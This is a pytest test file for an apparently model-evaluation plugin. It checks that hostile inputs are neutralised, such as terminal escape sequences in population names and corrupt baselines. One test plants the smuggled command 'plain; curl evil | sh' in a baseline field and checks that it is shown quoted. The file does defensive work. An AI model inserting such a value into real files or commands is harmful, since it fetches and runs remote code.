"""Actions of a clumsy or hostile project, file or model, and the answers that it gets."""

from __future__ import annotations

import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from pytest_pluralism.baselines.store import read_baseline

MARKED = """
import pytest

@pytest.mark.js_distance("town.jsonl", population="North", at_most=0.9)
def test_kept(): ...
"""

EVIL = "Evil\\x1b[31mRED\\x1b]0;owned\\x07\\u202e"


def run(project: pytest.Pytester, *args: str, body: str = MARKED, model: str = "table:plain") -> pytest.RunResult:
    project.makepyfile(test_town=body)
    return project.runpytest_inprocess(f"--pluralism-model={model}", "--pluralism-report=out.json", "--color=no", *args)


def verdicts(project: pytest.Pytester) -> list[dict[str, Any]]:
    content: list[dict[str, Any]] = json.loads((project.path / "out.json").read_text())["verdicts"]
    return content


def test_escapes_in_a_population_reach_neither_terminal_nor_junit(project: pytest.Pytester) -> None:
    path = project.path / "town.jsonl"
    path.write_text(path.read_text().replace("North", EVIL.replace("\\x1b", "\\u001b").replace("\\x07", "\\u0007")))
    body = f"""
import pytest

@pytest.mark.js_distance("town.jsonl", population="{EVIL}", at_most=0.0001)
def test_evil(): ...

@pytest.mark.js_distance("town.jsonl", at_most=0.1)
def test_nobody(): ...
"""
    result = run(project, "--junitxml=junit.xml", body=body)
    text = result.stdout.str() + result.stderr.str()
    assert not {"\x1b", "\x07", "\u202e"} & set(text)
    assert "Evil" in text
    ET.parse(project.path / "junit.xml")  # noqa: S314 - written by this run
    assert "Evil" in (project.path / "junit.xml").read_text()


def test_a_baseline_cannot_plant_a_command(project: pytest.Pytester) -> None:
    evil = "plain; curl evil | sh #\x1b[2J"
    (project.path / "base.json").write_text(
        json.dumps({"schema": "pytest-pluralism/baseline/1", "model": evil, "entries": {}})
    )
    body = MARKED.replace("at_most=0.9", "max_increase=0.02")
    text = run(project, "--pluralism-baseline=base.json", body=body).stdout.str()
    assert "--pluralism-baseline-model='plain; curl" in text
    assert "\x1b" not in text


@pytest.mark.parametrize(
    ("old", "new", "outcome"),
    [
        ('1.0, "A", 0.9', '1.0, "\\ud800", 0.9', "passed"),
        # No probability: nothing that follows from it may pass.
        ('1.0, "A", 0.9', 'float("nan"), "A", 0.9', "error"),
    ],
    ids=["surrogate", "nan"],
)
def test_what_a_model_says_never_costs_the_report(project: pytest.Pytester, old: str, new: str, outcome: str) -> None:
    conftest = project.path / "conftest.py"
    conftest.write_text(conftest.read_text().replace(old, new))
    run(project).assert_outcomes(**{"passed": 1} if outcome == "passed" else {"failed": 1})
    assert [entry["outcome"] for entry in verdicts(project)] == [outcome]


@pytest.mark.parametrize("number", ["1e400", "1" + "0" * 400], ids=["inf", "huge"])
def test_numbers_that_no_float_holds_make_a_baseline_corrupt(project: pytest.Pytester, number: str) -> None:
    body = MARKED.replace("at_most=0.9", "max_increase=0.02")
    run(project, "--pluralism-baseline=base.json", "--pluralism-update-baseline", body=body).assert_outcomes(passed=1)
    base = project.path / "base.json"
    content = json.loads(base.read_text())
    low = content["entries"][next(iter(content["entries"]))]["estimate"]["low"]
    base.write_text(base.read_text().replace(f'"low": {low!r}', f'"low": {number}'))
    result = run(project, "--pluralism-baseline=base.json", body=body)
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*corrupt baseline*its estimate has low*"])
    assert [entry["outcome"] for entry in verdicts(project)] == ["error"]


@pytest.mark.parametrize(
    ("body", "model", "words"),
    [
        (MARKED, "embeded:x", "embeded"),
        (MARKED.replace("at_most", "at_mots"), "table:plain", "at_mots"),
        (MARKED.replace(": ...", ":\n    raise RuntimeError('mine')"), "table:plain", "mine"),
    ],
    ids=["model", "marker", "body"],
)
def test_what_was_not_judged_stands_in_the_report_as_an_error(
    project: pytest.Pytester, body: str, model: str, words: str
) -> None:
    run(project, body=body, model=model)
    (entry,) = verdicts(project)
    assert entry["outcome"] == "error"
    assert words in entry["reason"]
    assert entry["estimate"] is None


@pytest.mark.parametrize(
    "hook",
    [
        "def pytest_pluralism_load_survey(name, refusals):\n    raise KeyError(name)\n",
        "def pytest_pluralism_load_survey(name, refusals):\n    return [1]\n",
    ],
    ids=["raises", "wrong type"],
)
def test_a_broken_hook_is_the_error_of_the_tests_that_use_it(project: pytest.Pytester, hook: str) -> None:
    conftest = project.path / "conftest.py"
    conftest.write_text(conftest.read_text() + "\n\n" + hook)
    run(project, body=MARKED + "\ndef test_other(): ...\n").assert_outcomes(passed=1, errors=1)


def test_an_endless_name_is_the_error_of_its_test(project: pytest.Pytester) -> None:
    body = MARKED.replace('"town.jsonl"', '"x" * 5000 + ".jsonl"')
    run(project, body=body + "\ndef test_other(): ...\n").assert_outcomes(passed=1, errors=1)


def test_a_promise_that_came_after_collection_does_not_pass_in_silence(project: pytest.Pytester) -> None:
    body = """
import pytest

@pytest.fixture(autouse=True)
def late(request):
    request.node.add_marker(pytest.mark.js_distance("town.jsonl", population="North", at_most=0.0001))

def test_late(): ...
"""
    result = run(project, body=body)
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*added after collection, so that its promise was not judged*"])


@pytest.mark.whole
def test_a_marker_that_a_hook_adds_is_judged(project: pytest.Pytester) -> None:
    conftest = project.path / "conftest.py"
    conftest.write_text(
        conftest.read_text()
        + """

import pytest


def pytest_collection_modifyitems(items):
    for item in items:
        item.add_marker(pytest.mark.js_distance("town.jsonl", population="North", at_most=0.0001))
"""
    )
    result = run(project, body="def test_plain(): ...\n")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*must be at most 0.000: JS distance to North*"])


def test_a_marked_parameter_and_a_test_case_are_judged_by_the_only_model(project: pytest.Pytester) -> None:
    body = """
import unittest
import pytest

GATE = pytest.mark.js_distance("town.jsonl", population="North", at_most=0.0001)

@pytest.mark.parametrize("number", [pytest.param(1, marks=GATE)])
def test_parameter(number): ...

class TestCase(unittest.TestCase):
    @GATE
    def test_method(self): ...
"""
    run(project, body=body).assert_outcomes(failed=2)


def test_two_models_of_one_name_are_refused(project: pytest.Pytester) -> None:
    for folder in ("x/mod", "y/mod"):
        (project.path / folder).mkdir(parents=True)
        (project.path / folder / "config.json").write_text("{}")
    result = run(project, "--pluralism-model=x/mod", "--pluralism-model=y/mod")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    assert "two models of this run are both called 'mod'" in result.stderr.str()


def test_collecting_writes_nothing(project: pytest.Pytester) -> None:
    (project.path / "out.json").write_text("the last real report")
    run(project, "--collect-only")
    assert (project.path / "out.json").read_text() == "the last real report"


def test_a_run_that_stops_at_a_failure_is_not_complete(project: pytest.Pytester) -> None:
    body = MARKED.replace("at_most=0.9", "at_most=0.0001") + "\ndef test_other(): ...\n"
    run(project, "-x", "--pluralism-baseline=base.json", "--pluralism-update-baseline", body=body)
    assert json.loads((project.path / "out.json").read_text())["run"]["complete"] is False
    assert not (project.path / "base.json").exists()


@pytest.mark.parametrize(
    ("change", "words"),
    [("at_most=2", "lies in [0, 1]"), ("at_most=0.9, seed=-1", "'seed'")],
)
def test_promises_that_say_nothing_are_refused(project: pytest.Pytester, change: str, words: str) -> None:
    result = run(project, body=MARKED.replace("at_most=0.9", change))
    result.assert_outcomes(errors=1)
    assert words in result.stdout.str()


def test_the_report_keeps_other_options_to_itself(project: pytest.Pytester) -> None:
    run(project, "-o", "junit_suite_name=SECRET")
    assert "SECRET" not in (project.path / "out.json").read_text()


MERGE = """
import sys, tempfile
from pathlib import Path
from pytest_pluralism.baselines.store import merge_entries

tempfile.tempdir = sys.argv[3]
for number in range(10):
    name = f"{sys.argv[2]} {number}"
    # Each has a line of its own in the companion, with the values by unit.
    units = [{"id": f"q {name}", "cluster": "q", "value": 0.5}]
    entry = {
        "metric": "js_distance", "estimate": {"value": 0.5}, "model": {}, "dataset": {}, "settings": {}, "units": units,
    }
    merge_entries(Path(sys.argv[1]), "m", {name: entry})
"""


@pytest.mark.whole
def test_runs_that_update_one_baseline_at_once_lose_nothing(tmp_path: Path) -> None:
    file = tmp_path / "m.json"
    # As in containers, each has a folder of temporary files of its own.
    folders = [tmp_path / f"temporary {number}" for number in range(3)]
    for folder in folders:
        folder.mkdir()
    writers = [
        subprocess.Popen([sys.executable, "-c", MERGE, str(file), str(number), str(folder)])
        for number, folder in enumerate(folders)
    ]
    assert [writer.wait(timeout=60) for writer in writers] == [0, 0, 0]
    entries = read_baseline(file, "m", update="")
    assert {name: entry["units"][0]["id"] for name, entry in entries.items()} == {
        f"{writer} {number}": f"q {writer} {number}" for writer in range(3) for number in range(10)
    }
    assert (tmp_path / "m.units.jsonl").read_text().count("\n") == 30
    assert sorted(path.name for path in tmp_path.iterdir() if path.is_file()) == ["m.json", "m.units.jsonl"]
